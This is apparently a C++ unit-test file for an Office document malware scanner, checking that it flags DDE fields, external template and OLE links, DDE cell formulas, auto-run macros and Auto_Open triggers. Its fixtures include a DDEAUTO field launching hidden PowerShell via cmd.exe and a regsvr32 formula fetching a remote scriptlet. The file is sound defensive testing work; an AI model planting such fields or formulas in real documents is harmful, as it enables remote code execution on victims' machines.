// XML parts: split field instructions, fldSimple, external templates and OLE links in .rels, xlsx
// ddeLink, sheet formulas, ODF Basic modules and event listeners, flat OPC binary parts, macro sheets.
#include <gtest/gtest.h>

#include "office_test_support.h"

namespace airlock::scan::office::testing {
namespace {

const char* kW = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

TEST(XmlFields, InstrTextSplitAcrossRunsIsJoined) {
  std::string doc = std::string("<?xml version=\"1.0\"?><w:document ") + kW + "><w:body><w:p>"
                    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                    "<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
                    "<w:r><w:instrText>EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe </w:instrText></w:r>"
                    "<w:r><w:instrText>\"/c powershell -nop -w hidden\"</w:instrText></w:r>"
                    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>DDEAUTO fake result</w:t></w:r>"
                    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";
  TreeResult r = ScanTree("word/document.xml", doc);
  auto f = r.With("office.dde");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].evidence, R"(DDEAUTO c:\\Windows\\System32\\cmd.exe "/c powershell -nop -w hidden")");
}

TEST(XmlFields, NestedFieldsAndNonDdeFields) {
  std::string doc = std::string("<w:document ") + kW + "><w:p>"
                    "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>IF </w:instrText>"
                    "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE cmd /c x</w:instrText>"
                    "<w:fldChar w:fldCharType=\"end\"/><w:instrText> = 1 \"a\"</w:instrText>"
                    "<w:fldChar w:fldCharType=\"end\"/>"
                    "<w:fldSimple w:instr=\" PAGE \"/><w:fldSimple w:instr=\"DDEAUTO &quot;x&quot;\"/></w:p></w:document>";
  TreeResult r = ScanTree("word/document.xml", doc);
  auto f = r.With("office.dde");
  ASSERT_EQ(f.size(), 2u) << r.Describe();
  EXPECT_EQ(f[0].evidence, "DDE cmd /c x");
  EXPECT_EQ(f[0].severity, 6);
  EXPECT_EQ(f[1].evidence, "DDEAUTO \"x\"");
}

TEST(XmlRels, ExternalAttachedTemplate) {
  std::string rels =
      "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
      "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
      "Target=\"https://203.0.113.9/t/template.dotm\" TargetMode=\"External\"/>"
      "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
      "Target=\"https://example.com/\" TargetMode=\"External\"/></Relationships>";
  TreeResult r = ScanTree("word/_rels/settings.xml.rels", rels);
  auto f = r.With("office.template.external");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].evidence, "https://203.0.113.9/t/template.dotm");
  EXPECT_EQ(f[0].severity, 7);
  EXPECT_EQ(f[0].techniques, std::vector<std::string>{"T1221"});
}

TEST(XmlRels, ExternalOleObjectAndMhtml) {
  std::string rels =
      "<Relationships><Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" "
      "Target=\"mhtml:http://198.51.100.2/x.html!x-usc:http://198.51.100.2/x.html\" TargetMode=\"External\"/>"
      "<Relationship Id=\"rId6\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
      "Target=\"media/image1.png\"/></Relationships>";
  TreeResult r = ScanTree("word/_rels/document.xml.rels", rels);
  auto f = r.With("office.template.external");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 8);
  EXPECT_NE(f[0].evidence.find("oleObject: mhtml:http://198.51.100.2/x.html"), std::string::npos);
}

TEST(XmlSheets, CellFormulaWithDde) {
  std::string sheet = "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><f>MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll'!''</f></c>"
                      "<c r=\"B1\"><f>SUM(A1:A3)</f></c></row></sheetData></worksheet>";
  TreeResult r = ScanTree("xl/worksheets/sheet1.xml", sheet);
  auto f = r.With("office.dde.formula");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 7);
  EXPECT_TRUE(f[0].evidence.starts_with("=MSEXCEL|'")) << f[0].evidence;
}

TEST(XmlSheets, MacroSheetPart) {
  TreeResult r = ScanTree("xl/macrosheets/sheet1.xml",
                          "<?xml version=\"1.0\"?><xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>");
  auto f = r.With("office.xlm.macrosheet");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 6);
}

TEST(XmlOdf, BasicModuleIsMacroWithSource) {
  std::string module =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE script:module PUBLIC \"-//OpenOffice.org//DTD OfficeDocument 1.0//EN\" \"module.dtd\">"
      "<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" script:language=\"StarBasic\">"
      "Sub Main\n  Shell(&quot;cmd.exe /c calc&quot;, 0)\nEnd Sub\n</script:module>";
  TreeResult r = ScanTree("Basic/Standard/Module1.xml", module);
  auto f = r.With("office.odf.macro");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_NE(f[0].evidence.find("Shell(\"cmd.exe /c calc\", 0)"), std::string::npos) << f[0].evidence;
  EXPECT_TRUE(r.Has("office.odf.suspicious"));
  ASSERT_EQ(r.leaves.size(), 1u);
  EXPECT_EQ(r.leaves[0].name, "Module1.bas");
}

TEST(XmlOdf, LoadEventBoundToMacro) {
  std::string content =
      "<office:document-content><office:scripts><office:event-listeners>"
      "<script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\" "
      "xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/>"
      "</office:event-listeners></office:scripts></office:document-content>";
  TreeResult r = ScanTree("content.xml", content);
  auto f = r.With("office.odf.autoexec");
  ASSERT_EQ(f.size(), 1u) << r.Describe();
  EXPECT_EQ(f[0].severity, 6);
  EXPECT_EQ(f[0].evidence, "dom:load -> vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document");
}

TEST(XmlFlatOpc, BinaryPartsBecomeChildren) {
  // A flat OPC (Word 2007 XML) package whose vbaProject.bin part is base64 inside the XML.
  std::string ole = MakeOle(VbaProjectStreams("", {{"Module1", "Sub AutoOpen()\r\n Shell \"calc\"\r\nEnd Sub\r\n"}}));
  static const char* b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string enc;
  for (size_t i = 0; i < ole.size(); i += 3) {
    uint32_t n = static_cast<unsigned char>(ole[i]) << 16;
    if (i + 1 < ole.size()) n |= static_cast<unsigned char>(ole[i + 1]) << 8;
    if (i + 2 < ole.size()) n |= static_cast<unsigned char>(ole[i + 2]);
    enc += b64[(n >> 18) & 63];
    enc += b64[(n >> 12) & 63];
    enc += i + 1 < ole.size() ? b64[(n >> 6) & 63] : '=';
    enc += i + 2 < ole.size() ? b64[n & 63] : '=';
    if (i % 57 == 54) enc += "\r\n";
  }
  std::string flat = "<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
                     "<pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"application/vnd.ms-office.vbaProject\">"
                     "<pkg:binaryData>" + enc + "</pkg:binaryData></pkg:part></pkg:package>";
  TreeResult r = ScanTree("flat.xml", flat);
  EXPECT_TRUE(r.Has("office.vba.autoexec_payload")) << r.Describe();
  bool child = false;
  for (const auto& leaf : r.leaves) child = child || (leaf.name == "word/vbaProject.bin" && leaf.data == ole);
  EXPECT_TRUE(child);
}

TEST(XmlRobustness, MalformedXmlDoesNotCrash) {
  for (std::string_view s : {"<", "<a", "<a b=\"", "<w:instrText>DDE x", "<!-- ", "<![CDATA[ x", "<a>&#99999999999;</a>",
                             "<w:fldChar w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"end\"/>"}) {
    TreeResult r = ScanTree("word/document.xml", std::string(s));
    (void)r;
  }
  // 10000 unclosed fields: bounded.
  std::string many;
  for (int i = 0; i < 10000; ++i) many += "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE x</w:instrText>";
  TreeResult r = ScanTree("word/document.xml", many);
  EXPECT_LE(r.findings.size(), 32u);
}

}  // namespace
}  // namespace airlock::scan::office::testing

#include <zlib.h>

namespace airlock::scan::office::testing {
namespace {

std::string Base64(std::string_view in) {
  static const char* b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string enc;
  for (size_t i = 0; i < in.size(); i += 3) {
    uint32_t n = static_cast<uint32_t>(static_cast<unsigned char>(in[i])) << 16;
    if (i + 1 < in.size()) n |= static_cast<uint32_t>(static_cast<unsigned char>(in[i + 1])) << 8;
    if (i + 2 < in.size()) n |= static_cast<unsigned char>(in[i + 2]);
    enc += b64[(n >> 18) & 63];
    enc += b64[(n >> 12) & 63];
    enc += i + 1 < in.size() ? b64[(n >> 6) & 63] : '=';
    enc += i + 2 < in.size() ? b64[n & 63] : '=';
  }
  return enc;
}

TEST(XmlWord2003, ActiveMimeBinDataCarriesVbaProject) {
  std::string ole = MakeOle(VbaProjectStreams("", {{"ThisDocument", "Sub Document_Open()\r\n Kill \"x\"\r\nEnd Sub\r\n"}}));
  uLongf packed_size = compressBound(ole.size());
  std::string packed(packed_size, '\0');
  ASSERT_EQ(compress(reinterpret_cast<Bytef*>(packed.data()), &packed_size, reinterpret_cast<const Bytef*>(ole.data()),
                     ole.size()),
            Z_OK);
  packed.resize(packed_size);
  // ActiveMime header (magic, then fields; the zlib stream starts at 0x32).
  std::string mso = "ActiveMime" + std::string(0x32 - 10, '\0') + packed;
  std::string xml = std::string("<?xml version=\"1.0\"?><w:wordDocument ") + kW +
                    "><w:docSuppData><w:binData w:name=\"editdata.mso\">" + Base64(mso) +
                    "</w:binData></w:docSuppData></w:wordDocument>";
  TreeResult r = ScanTree("doc2003.xml", xml);
  EXPECT_TRUE(r.Has("office.vba.autoexec_payload")) << r.Describe();
  bool child = false;
  for (const auto& leaf : r.leaves) child = child || (leaf.name == "editdata.mso.ole" && leaf.data == ole);
  EXPECT_TRUE(child);
  // The same blob arriving alone (an MHT part unpacked by the engine) is recognized by content.
  TreeResult alone = ScanTree("editdata.mso", mso);
  EXPECT_TRUE(alone.Has("office.vba.autoexec_payload")) << alone.Describe();
}

}  // namespace
}  // namespace airlock::scan::office::testing

namespace airlock::scan::office::testing {
namespace {

TEST(XmlTriggers, AutoOpenDefinedNameAndRibbonOnLoad) {
  TreeResult wb = ScanTree("xl/workbook.xml",
                           "<workbook><definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1"
                           "</definedName><definedName name=\"Print_Area\">Sheet1!$A$1</definedName></definedNames></workbook>");
  auto a = wb.With("office.xlm.auto_open");
  ASSERT_EQ(a.size(), 1u) << wb.Describe();
  EXPECT_EQ(a[0].evidence, "_xlnm.Auto_Open");
  TreeResult ui = ScanTree("customUI/customUI14.xml",
                           "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Ribbon_Load\"/>");
  auto o = ui.With("office.customui.onload");
  ASSERT_EQ(o.size(), 1u) << ui.Describe();
  EXPECT_EQ(o[0].evidence, "onLoad=Ribbon_Load");
}

}  // namespace
}  // namespace airlock::scan::office::testing
